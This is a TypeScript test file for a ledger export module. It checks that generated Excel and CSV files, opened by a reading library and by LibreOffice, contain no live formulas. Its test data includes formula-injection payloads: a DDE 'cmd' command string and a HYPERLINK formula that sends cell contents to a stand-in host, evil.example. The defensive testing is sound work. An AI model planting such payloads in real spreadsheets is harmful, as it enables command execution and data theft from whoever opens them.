import { execFileSync } from "node:child_process"
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { pathToFileURL } from "node:url"
import { readSheet } from "read-excel-file/node"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import writeExcelFile from "write-excel-file/node"
import { bookOf } from "../ledgers/excel.ts"
import type { Cell } from "../ledgers/ledger.ts"
import { longBookOf } from "../ledgers/long-excel.ts"
import { plainText } from "../ledgers/text.ts"
import { entriesOf, partOf } from "../ledgers/zip.ts"
import { byteOrderMark, csvLines } from "./csv.ts"
import { phoneNumbers } from "./phone-numbers.ts"
import { asLedger } from "./sheet.ts"

// What the exports say, read by programs that did not write them: the sheet of a long one by a library, and all of them
// by LibreOffice, cell by cell, over texts that a careless file would let run.

const payloads = [`cmd|' /C calc'!A0`, "1+1", "SUM(A1:A9)", `HYPERLINK("http://evil.example/?"&A1,"点我")`, "张三", ""]
const before = ["", " ", "\t", "\r", "\n", "\r\n", "\u200b", "\ufeff", "\u00a0", "\u3000", "\u0000", "\u0001", "'", '"']
const corpus = before
  .flatMap((space) => [..."=+-@|%＝＋－＠"].flatMap((start) => payloads.map((payload) => space + start + payload)))
  .concat(
    "<b>&amp;</b>",
    "a_x0041_b",
    "450202195401014321",
    "007",
    "2026-11-25",
    "1e5",
    "TRUE",
    "#REF!",
    "a\n\nb",
    "，",
  )
const { ledger } = asLedger(phoneNumbers, [])
const rows: Cell[][] = corpus.map((text, i) => [
  i + 1,
  text,
  text,
  "一片",
  "没有留号码",
  "2026-11-25",
  "",
  "",
  text,
  "",
  "",
])
const around = {
  about: "试一单位",
  closing: [],
  sign: ["填表人", "审核人"],
  mark: "导出",
  footer: "&amp;C第 &amp;P 页 / 共 &amp;N 页",
}

async function* batches() {
  for (let at = 0; at < rows.length; at += 100) yield rows.slice(at, at + 100)
}

async function longBook(): Promise<Buffer> {
  const pieces: Buffer[] = []
  for await (const piece of longBookOf(ledger, batches(), around, new Date())) pieces.push(piece)
  return Buffer.concat(pieces)
}
const shortBook = () =>
  bookOf(
    ledger,
    { about: [], rows: rows.map((cells) => ({ cells })), total: rows.length, before: 0, next: null },
    around,
  )

const sheetOf = (book: Buffer) => {
  const entry = entriesOf(book).find(({ name }) => name === "xl/worksheets/sheet1.xml")
  if (!entry) throw new Error("a book without a sheet")
  return partOf(book, entry).toString("utf8")
}

/** A sheet without its cells' contents: styles, heights, widths, panes, merges, page. */
const frame = (xml: string) =>
  xml
    .replace(/ t="(?:s|inlineStr)"/g, "")
    .replace(/<v>[^<]*<\/v>|<is>.*?<\/is>/gs, "")
    .replace(/><\/c>/g, "/>")

test("a long file looks as the short one with the same rows: every style, height, width, pane and margin", async () => {
  const [long, short] = [sheetOf(await longBook()), sheetOf(await shortBook())]
  expect(long).not.toMatch(/<f[\s>/]/)
  expect(frame(long)).toBe(frame(short))
})

test("a library reads the same cells from the long file as from the short one", async () => {
  const [long, short] = [
    await readSheet(await longBook(), { trim: false }),
    await readSheet(await shortBook(), { trim: false }),
  ]
  expect(long).toEqual(short)
  expect(long.slice(3, 3 + rows.length).map((row) => row[1])).toEqual(corpus.map((text) => plainText(text) || null))
}, 20_000)

const office = [
  "/usr/bin/soffice",
  "/usr/local/bin/soffice",
  "/Applications/LibreOffice.app/Contents/MacOS/soffice",
].find(existsSync)

describe.skipIf(!office)("LibreOffice (left out where it is not installed)", () => {
  const folder = mkdtempSync(join(tmpdir(), "niangjia-office-"))
  const convert = (to: string, files: string[], from: string[] = []) =>
    execFileSync(
      office as string,
      [
        `-env:UserInstallation=${pathToFileURL(join(folder, "profile"))}`,
        "--headless",
        ...from,
        "--convert-to",
        to,
        "--outdir",
        folder,
        ...files.map((file) => join(folder, file)),
      ],
      { stdio: "ignore", timeout: 120_000 },
    )
  const made = (name: string) => readFileSync(join(folder, name), "utf8")

  beforeAll(async () => {
    writeFileSync(join(folder, "long.xlsx"), await longBook())
    writeFileSync(join(folder, "short.xlsx"), await shortBook())
    const heading = ledger.columns.map((column) => column.heading)
    writeFileSync(join(folder, "lines.csv"), byteOrderMark + csvLines([heading, ...rows]))
    const running = await writeExcelFile([[{ value: "=1+1", type: "Formula" }]] as never).toBuffer()
    writeFileSync(join(folder, "running.xlsx"), running)
    writeFileSync(join(folder, "typed.csv"), "=1+1,2\r\n")
    convert("fods", ["long.xlsx", "short.xlsx", "running.xlsx"])
    // Comma, double quotes, UTF-8: what its own dialogue proposes for a file that begins so.
    convert("fods", ["lines.csv", "typed.csv"], ["--infilter=Text - txt - csv (StarCalc):44,34,76,1"])
    // Comma, quotes around every text and no number, UTF-8, as shown.
    convert("csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false", ["long.xlsx", "short.xlsx"])
  }, 180_000)
  afterAll(() => rmSync(folder, { recursive: true, force: true }))

  test("finds no formula in any of them, though it finds those that are", () => {
    const formulas = (name: string) => made(name).match(/table:formula=/g)?.length ?? 0
    expect([formulas("running.fods"), formulas("typed.fods")]).toEqual([1, 1])
    expect([formulas("long.fods"), formulas("short.fods"), formulas("lines.fods")]).toEqual([0, 0, 0])
  })

  test.each(["long", "short"])(
    "reads every cell of the %s file as it was: texts as texts, numbers as numbers",
    (name) => {
      const lines = parsed(made(`${name}.csv`))
      expect(lines[0]?.[0]).toEqual({ text: ledger.title, quoted: true })
      expect(lines[2]?.map((cell) => cell.text)).toEqual(ledger.columns.map((column) => column.heading))
      const wanted = rows.map((cells) =>
        cells.map((cell) =>
          typeof cell === "number"
            ? { text: String(cell), quoted: false }
            : { text: plainText(String(cell)), quoted: cell !== "" },
        ),
      )
      expect(lines.slice(3, 3 + rows.length)).toEqual(wanted)
    },
  )

  test("reads the CSV's lines as they were, each text with the apostrophe that keeps it one", () => {
    const lines = made("lines.fods").split("<table:table-row ").slice(1)
    expect(lines).toHaveLength(rows.length + 1)
    const texts = lines.map((line) => /<text:p>(.*?)<\/text:p>/.exec(line)?.[1])
    expect(texts.slice(1)).toEqual(rows.map((cells) => String(cells[0])))
    expect(made("lines.fods")).toContain("<text:p>&apos;＝1+1</text:p>")
  })

  test("sees the page: A4 on its side, headings on each page, the page's number of how many", () => {
    const fods = made("long.fods")
    const found = /fo:page-width="([\d.]+)(in|cm)" fo:page-height="([\d.]+)[^>]*print-orientation="(\w+)"/.exec(fods)
    const size = (text?: string) => Number(text) * (found?.[2] === "in" ? 2.54 : 1)
    expect([size(found?.[1]).toFixed(1), size(found?.[3]).toFixed(1), found?.[4]]).toEqual([
      "29.7",
      "21.0",
      "landscape",
    ])
    expect(fods).toMatch(/<table:table-header-rows>(?:(?!<\/table:table-header-rows>).)*>序号</s)
    expect(fods).toMatch(/第 <.*<text:page-number>.*共 <.*<text:page-count>/)
  })
})

/** Lines of a CSV file as another program writes them, and which cells stood in quotes. */
function parsed(text: string): { text: string; quoted: boolean }[][] {
  const lines: { text: string; quoted: boolean }[][] = [[]]
  for (let at = 0; at < text.length; ) {
    const quoted = text[at] === '"'
    const found = quoted ? /"((?:[^"]|"")*)"(,|\n|$)/y : /([^,\n]*)(,|\n|$)/y
    found.lastIndex = at
    const [whole = "", cell = "", end] = found.exec(text) ?? []
    if (whole === "") throw new Error(`no cell at ${at}`)
    lines.at(-1)?.push({ text: quoted ? cell.replaceAll('""', '"') : cell, quoted })
    at += whole.length
    if (end === "\n") lines.push([])
  }
  return lines
}
